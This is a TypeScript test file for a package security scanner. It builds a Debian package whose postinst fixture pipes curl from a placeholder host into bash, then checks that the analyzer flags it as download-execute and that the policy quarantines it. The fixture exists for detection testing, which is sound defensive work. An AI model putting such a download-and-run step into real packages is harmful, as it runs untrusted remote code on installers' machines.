import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parseDeb } from '../../../src/formats/debian/deb.js';
import { osPackagesAnalyzer } from '../../../src/security/analyzers/os-packages/index.js';
import { scanArtifact } from '../../../src/security/gate.js';
import { createJudge, DEFAULT_POLICY, type Policy, type Verdict } from '../../../src/security/policy.js';
import type { ContentView } from '../../../src/security/types.js';
import { buildDeb, type BuiltDeb } from '../../formats/debian/build-deb.js';
import { contextFor } from '../analyzer-harness.js';
import { CALIBRATED_POLICY } from './helpers.js';

// "Done when": a postinst that pipes curl to bash is at least quarantined by the default policy.
// Scanned the way the gate does it: a real .deb, parseDeb's view, scanArtifact, the policy judge.

const DROPPER_POSTINST = `#!/bin/sh
set -e
case "$1" in
    configure)
        curl -fsSL https://setup.example.invalid/agent.sh | bash
        ;;
esac
#DEBHELPER#
exit 0
`;

async function verdictFor(view: ContentView, policy: Policy): Promise<Verdict> {
  const ctx = contextFor(view, { artifact: { format: 'debian', ecosystem: 'Debian', name: 'demo-agent', version: '1.0-1', filename: 'demo-agent_1.0-1_amd64.deb', manifest: {} } });
  const report = await scanArtifact(view, ctx, { analyzers: [osPackagesAnalyzer] });
  assert.deepEqual(report.failures, []);
  return createJudge(policy)({ name: 'demo-agent', version: '1.0-1', findings: report.findings, failures: report.failures });
}

describe('os-packages verdicts', () => {
  let built: BuiltDeb;
  let view: ContentView;
  before(async () => {
    built = await buildDeb({ name: 'demo-agent', controlFiles: { postinst: DROPPER_POSTINST }, files: [{ path: '/usr/bin/demo-agent', body: 'ELF', mode: 0o755 }] });
    const contents = await parseDeb(built.data, undefined, { view: true });
    view = contents.view as ContentView;
  });
  after(async () => built.cleanup());

  it('a postinst piping curl to bash is quarantined by the calibrated default policy', async () => {
    const verdict = await verdictFor(view, CALIBRATED_POLICY);
    assert.equal(verdict.action, 'quarantine');
    assert.match(verdict.reasons[0] ?? '', /^os-packages\/download-execute in DEBIAN\/postinst:5: /);
  });

  it(
    'a postinst piping curl to bash is quarantined by DEFAULT_POLICY as shipped',
    async () => {
      const verdict = await verdictFor(view, DEFAULT_POLICY);
      assert.ok(verdict.action === 'quarantine' || verdict.action === 'block', verdict.action);
    },
  );

  it('the analyzer is cacheable and its findings pass the gate validation', async () => {
    assert.equal(osPackagesAnalyzer.cacheable, true);
    const ctx = contextFor(view, { artifact: { format: 'debian', ecosystem: 'Debian', name: 'demo-agent', version: '1.0-1', manifest: {} } });
    const report = await scanArtifact(view, ctx, { analyzers: [osPackagesAnalyzer] });
    assert.equal(report.outcomes[0]?.status, 'ok');
    for (const f of report.findings) {
      assert.ok(f.rule.startsWith('os-packages/'));
      assert.ok((f.evidence ?? '').length <= 200);
    }
  });
});
